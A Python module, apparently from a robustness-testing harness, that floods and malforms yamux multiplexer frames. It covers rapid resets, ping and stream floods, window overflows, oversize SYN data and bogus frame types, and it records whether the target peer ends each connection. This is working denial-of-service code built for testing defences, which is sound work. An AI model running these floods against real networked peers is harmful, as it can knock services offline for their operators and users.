"""Attacks on the multiplexer: floods of frames, and frames that lie."""

from __future__ import annotations

import contextlib
import select
import struct
import time
from collections.abc import Callable

from adversary.attacker import GONE, Attacker, await_end
from adversary.session import Session
from peers.contract import ECHO
from stack import multistream, yamux
from stack.connection import Upgraded
from stack.yamux import INITIAL_WINDOW, Flag, Type

#: How many frames are sent in one write.
_BATCH = 4096
#: After so many frames of one connection who doesn't read need not hurry.
_ENOUGH = 200_000

#: Makes frames number `first` to `first + count` of a connection.
Maker = Callable[[int, int], bytes]


def header(kind: Type, flags: int, stream: int, length: int) -> bytes:
    """A frame's header, without the cost of a `Frame`: floods make millions."""
    return struct.pack(">BBHII", 0, kind, flags, stream, length)


def _flood(attacker: Attacker, make: Maker, *, reads: bool = True) -> None:
    """Sends frames by the million, on as many connections as the target ends."""
    sent = 0
    while attacker.going(sent):
        with attacker.connection() as upgraded:
            attacker.count("connections")
            before, began = sent, time.monotonic()
            sent, has_ended = _pour(attacker, upgraded, make, sent, reads)
            attacker.count("ended by the target", has_ended)
            attacker.note_longest("frames of one connection", sent - before)
            attacker.note_longest("seconds of one connection", time.monotonic() - began)
    attacker.facts["frames"] = sent


def _pour(attacker: Attacker, upgraded: Upgraded, make: Maker, sent: int, reads: bool) -> tuple[int, bool]:
    """One connection's part of a flood, until the target ends it: the new count, and whether it did."""
    index = 0
    try:
        # Who doesn't read sees no goodbye, only that the connection is gone: it goes on, at a walk, until then.
        while (is_wanted := attacker.going(sent)) or not reads and time.monotonic() < attacker.deadline:
            count = _BATCH if is_wanted and index < _ENOUGH else 1
            upgraded.secured.send(make(index, count))
            attacker.begun()
            index += count
            sent += count
            if reads:
                _read_all(upgraded)
            elif count == 1:
                time.sleep(0.01)
    except GONE:
        return sent, True
    return sent, False


def _read_all(upgraded: Upgraded) -> None:
    """Reads what is there; raises `Ended` when that is the end."""
    while select.select([upgraded.tcp], [], [], 0)[0]:
        upgraded.tcp.receive(0)


def _cut(attacker: Attacker, breaks: Callable[[Upgraded, int], None]) -> None:
    """Breaks a rule on one connection after the other, each of which the target has to end."""
    done = 0
    while attacker.going(done):
        with attacker.connection() as upgraded:
            breaks(upgraded, done)
            attacker.begun()
            attacker.count("cut", await_end(upgraded.tcp, 2.0) is not None)
        done += 1
    attacker.facts["uncut"] = done - attacker.facts.get("cut", 0)


def rapid_reset(attacker: Attacker) -> None:
    """Opens a stream and resets it in the next frame."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.WINDOW_UPDATE, (Flag.SYN, Flag.RST)[index & 1], (first + index) // 2 * 2 + 1, 0)
        for index in range(count)
    ))  # fmt: skip


def open_and_reset_at_once(attacker: Attacker) -> None:
    """Opens and resets a stream in one frame."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.WINDOW_UPDATE, Flag.SYN | Flag.RST, 2 * (first + index) + 1, 0) for index in range(count)
    ))  # fmt: skip


def made_you_reset(attacker: Attacker) -> None:
    """Has the target reset streams: each is opened and its window then overflows."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.WINDOW_UPDATE, (Flag.SYN, 0)[index & 1], (first + index) // 2 * 2 + 1, (0, 0xFFFFFFFF)[index & 1])
        for index in range(count)
    ))  # fmt: skip


def window_overflow(attacker: Attacker) -> None:
    """A window update of 2^32 - 1 on a stream that has its first window, once on each connection."""
    done = 0
    while attacker.going(done):
        with attacker.connection() as upgraded:
            upgraded.frames.send(
                yamux.window_update(1, 0xFFFFFFFF, Flag.SYN), yamux.window_update(1, 0xFFFFFFFF), yamux.ping(7)
            )
            attacker.begun()
            frames, _ = upgraded.frames.collect(0.2 if done == 0 else 0)
            if done == 0:
                refused = any(frame.stream == 1 and frame.has(Flag.RST) for frame in frames)
                attacker.facts["refused"] = refused or any(frame.type == Type.GO_AWAY for frame in frames)
        done += 1


def oversize_syn(attacker: Attacker) -> None:
    """Data together with SYN whose body is past the first window: by one byte, by far, by a lie."""
    lengths = (INITIAL_WINDOW + 1, 1 << 20, 0x01000001, 0x7FFFFFFF, 0xFFFFFFFF)

    def breaks(upgraded: Upgraded, index: int) -> None:
        length = lengths[index % len(lengths)]
        upgraded.secured.send(header(Type.DATA, Flag.SYN, 1, length) + bytes(min(length, INITIAL_WINDOW)))

    _cut(attacker, breaks)


def empty_frames(attacker: Attacker) -> None:
    """Data frames without data on an open stream."""
    _empty(attacker, Type.DATA)


def empty_updates(attacker: Attacker) -> None:
    """Window updates of nothing."""
    _empty(attacker, Type.WINDOW_UPDATE)


def _empty(attacker: Attacker, kind: Type) -> None:
    """Frames that carry nothing, all on one stream."""

    def make(first: int, count: int) -> bytes:
        opening = header(Type.WINDOW_UPDATE, Flag.SYN, 1, 0) if first == 0 else b""
        return opening + header(kind, 0, 1, 0) * count

    _flood(attacker, make)


def ping_flood(attacker: Attacker) -> None:
    """Pings without end, whose answers are read."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.PING, Flag.SYN, 0, first + index) for index in range(count)
    ))  # fmt: skip


def pings_never_read(attacker: Attacker) -> None:
    """Pings at a pace that is allowed and then past it, by a peer that reads nothing."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.PING, Flag.SYN, 0, first + index) for index in range(count)
    ), reads=False)  # fmt: skip


def refusals_never_read(attacker: Attacker) -> None:
    """Streams past the limit of those that may be negotiated, by a peer that reads none of the resets."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.DATA, Flag.SYN, 2 * (first + index) + 1, 0) for index in range(count)
    ), reads=False)  # fmt: skip


def stream_flood(attacker: Attacker) -> None:
    """Opens streams without end and says nothing on them."""
    _flood(attacker, lambda first, count: b"".join(
        header(Type.WINDOW_UPDATE, Flag.SYN, 2 * (first + index) + 1, 0) for index in range(count)
    ))  # fmt: skip


def window_violation(attacker: Attacker) -> None:
    """Sends on and on to an echo whose answers nobody reads: the window is used up, and the sending goes on."""
    flight = multistream.lines(multistream.HEADER, ECHO)

    def breaks(upgraded: Upgraded, index: int) -> None:
        upgraded.secured.send(header(Type.DATA, Flag.SYN, 1, len(flight)) + flight)
        with contextlib.suppress(*GONE):
            for _ in range(64):
                upgraded.secured.send(header(Type.DATA, 0, 1, 1 << 18) + bytes(1 << 18))
                attacker.begun()

    _cut(attacker, breaks)


def unknown_frames(attacker: Attacker) -> None:
    """Frames of other versions and types, with every flag."""
    kinds = b"\x01\x00", b"\x00\x04", b"\xff\xff", b"\x00\x09"
    _cut(attacker, lambda upgraded, index: upgraded.secured.send(
        kinds[index % 4] + struct.pack(">HII", 0xFFFF, index & 0x7FFFFFFF, 0xFFFFFFFF)
    ))  # fmt: skip


def wrong_parity(attacker: Attacker) -> None:
    """Opens streams with the target's ids, and stream 0."""
    _cut(attacker, lambda upgraded, index: upgraded.frames.send(
        yamux.window_update((0, 2, 0xFFFFFFFE)[index % 3], 0, Flag.SYN)
    ))  # fmt: skip


def never_reads(attacker: Attacker) -> None:
    """Echo streams into which all is written that goes, and from which nothing is read, on several connections."""
    sessions = [attacker.session() for _ in range(attacker.wanted)]
    streams = 64
    flight = multistream.lines(multistream.HEADER, ECHO)
    blocked = set()
    total = 0
    for session in sessions:
        for index in range(streams):
            session.frames.link.send(header(Type.DATA, Flag.SYN, 2 * index + 1, len(flight)) + flight)
    attacker.begun()
    room = INITIAL_WINDOW - len(flight)
    while not attacker.is_enough() or total < streams:
        for session in sessions:
            session.connection.tcp.write_timeout = 0.2
            for index in range(streams):
                if (session, index) in blocked:
                    continue
                body = header(Type.DATA, 0, 2 * index + 1, room) + bytes(room)
                blocked.add((session, index))
                with contextlib.suppress(*GONE):
                    session.frames.link.send(body)
                    total += 1
        time.sleep(0.05)
        if time.monotonic() > attacker.deadline:
            break
    attacker.facts["MiB sent"] = total * INITIAL_WINDOW / (1 << 20)
    for session in sessions:
        session.abort()


def open_and_close(attacker: Attacker) -> None:
    """Streams that are opened, used and closed as they should be: none may leave a trace."""
    done = 0
    session: Session | None = None
    while attacker.going(done):
        if session is None or session.ended:
            session = attacker.session()
            attacker.count("connections")
        opened = [session.open() for _ in range(100)]
        for stream in opened:
            stream.send(multistream.lines(multistream.HEADER, ECHO) + b"x", Flag.FIN)
        attacker.begun()
        for stream in opened:
            session.pump(lambda stream=stream: stream.is_over, 10)
            attacker.count("clean", stream.has_fin and stream.buffer.endswith(b"x"))
            del session.streams[stream.number]
        done += len(opened)
    attacker.facts["unclean"] = done - attacker.facts.get("clean", 0)
    attacker.facts["streams"] = done
    if session:
        session.abort()
